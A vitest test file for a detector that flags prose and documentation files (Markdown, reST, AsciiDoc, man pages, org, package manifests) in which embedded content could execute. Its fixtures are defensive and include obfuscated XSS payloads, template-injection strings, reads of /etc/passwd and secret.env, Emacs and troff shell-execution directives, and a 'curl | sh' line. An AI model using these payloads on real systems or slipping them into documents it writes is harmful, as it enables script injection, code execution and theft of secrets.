import { describe, expect, it } from 'vitest';
import { needsJudging } from './kind-table.ts';

type Row = readonly [path: string, text: string];

const RUNS: readonly Row[] = [
  ['a.md', '[x](java&#115;cript:alert(1))\n'],
  ['a.md', '[x](java&#x73;cript&colon;alert(1))\n'],
  ['a.md', '<img src=x\nonerror\n=alert(1)>\n'],
  ['a.md', '<a title="<b>" onclick=f()>\n'],
  ['a.md', '<img alt=<b src=x onerror=f()>\n'],
  ['a.md', '<<b>img src=x onerror=f()>\n'],
  ['a.md', '<i<b>mg src=x><img\nonerror=f()>\n'],
  ['a.md', '<b\n>x</b\nonclick=f()>\n'],
  ['a.md', '<svg/onload=alert(1)>\n'],
  ['a.md', '```python exec="on"\nprint(1)\n```\n'],
  ['a.md', '> ```{python}\n> 1\n> ```\n'],
  ['a.md', '# A\n\n{{ constructor.constructor("x")() }}\n'],
  ['a.md', '{% include x %}\n'],
  ['a.md', "{fetch('https://x.example')}\n"],
  ['a.md', '- a\n  ```\nb\n\n<script>alert(1)</script>\n\n  ```\n'],
  ['a.md', '```\n<script>alert(1)</script>\n'],
  ['a.md', '---js\n{ title: x }\n---\n'],
  ['a.md', '---\nhead:\n  - - script\n    - {}\n---\n'],
  ['a.md', '<<< @/secret.env\n'],
  ['a.md', '<!-- Local Variables:\neval: (shell-command "id")\nEnd: -->\n'],
  ['a.livemd', '# A\n'],
  ['a.rst', '..  RAW :: html\n\n   x\n'],
  ['a.rst', '   .. |x| raw:: html\n'],
  ['a.rst', '.. role:: h(raw)\n'],
  ['a.rst', '`x <javascript:alert(1)>`_\n'],
  ['a.adoc', '+++<scr+++ +++ipt>+++\n'.replace(' ', '')],
  ['a.adoc', 'pass:[<script>x</script>]\n'],
  ['a.adoc', '[pass]\n<script>x</script>\n'],
  ['a.adoc', '++++\n<iframe src=x>\n++++\n'],
  ['a.adoc', 'include::https://x.example/a[]\n'],
  ['a.textile', '<script>x</script>\n'],
  ['a.wiki', '<html>x</html>\n'],
  ['a.mediawiki', '{{#invoke:x|y}}\n'],
  ['a.creole', '<<exec x>>\n'],
  ['a.rdoc', ':include: /etc/passwd\n'],
  ['a.pod', '=head1 A\n\n=cut\n\nsystem("id");\n'],
  ['a.pod', '=begin html\n\nx\n\n=end html\n'],
  ['a.1', '.TH A 1\n.sy id\n'],
  ['a.1', "'  pso id\n"],
  ['a.1', '.if 1 .pi sh\n'],
  ['a.1', '.rn sy x\n'],
  ['a.org', '#+MACRO: x (eval (shell-command "id"))\n'],
  ['a.muse', '<lisp>(x)</lisp>\n'],
  ['VERSION-2.x', 'SECTIONS\n{ .text : { *(.text) } }\n'],
  ['VERSION-2.x', 'INPUT(evil.o)\n'],
  ['VERSION-2.x', 'set -e\ncurl https://x.example | sh\n'],
  ['VERSION-2.x', '#!/bin/sh\necho 1\n'],
  ['VERSION-2.x', '%hook A\n'],
  ['VERSION-2.x', 'program A { version B { int C(void) = 1; } = 1; } = 2;\n'],
  ['VERSION.x', 'Words of a version.\n'],
  ['memory-2.x', 'A thing=1\n'],
  ['package-support.json', '{"hooks": {"postinstall": "sh evil.sh"}}\n'],
];

const READ: readonly Row[] = [
  [
    'README.md',
    '<p align="center"><img src="a.png" width="10"></p>\n\n<details><summary>x</summary>\n\ny\n</details>\n',
  ],
  ['README.md', '[![build](https://x.example/a.svg)](https://x.example)\n\n<kbd>A</kbd><br/>\n'],
  ['README.md', '---\ntitle: A\nlayout: page\n---\n\n# A\n'],
  ['README.md', '---\n\nA rule, and words.\n'],
  ['README.md', 'With `<settings>`.\n\nA badge ->` b. With OnOverflow=Split.\n'],
  ['README.md', 'Call `{f(x)}` or {x}.\n\n```js\nconst onLoad = () => {};\n```\n'],
  ['a.md', '``` { .yaml .annotate }\na: 1\n```\n\n```js {1,3}\nrun(1)\n```\n'],
  ['a.md', '```bash\ncurl https://x.example | sh\n```\n'],
  [
    'a.rst',
    '.. code-block:: python\n\n   eval("1")\n\n.. include:: ../CHANGES.rst\n\n.. _JavaScript: https://x.example\n',
  ],
  ['a.adoc', '= A\n\n+++<br>+++\n\ninclude::b.adoc[]\n'],
  ['a.1', '.TH A 1\n.SH NAME\na \\- the pi command\n'],
  ['a.pod', '=head1 A\n\nwords\n\n=cut\n'],
  ['a.org', '* A\n\nwords\n'],
  ['release-notes/VERSION-2.x', '2.18.1 (not yet released)\n\n#1: Fails with `a` (reported by X)\n (fix by Y)\n'],
  ['package-support.json', '{"versions": [{"version": "*", "backing": {"donations": ["https://x.example"]}}]}\n'],
];

describe('prose', () => {
  it.each(RUNS)('%s of which something runs needs judging: %j', (path, text) => {
    expect(needsJudging(path, text)).toBe(true);
  });

  it.each(READ)('%s that is only read needs none: %j', (path, text) => {
    expect(needsJudging(path, text)).toBe(false);
  });
});
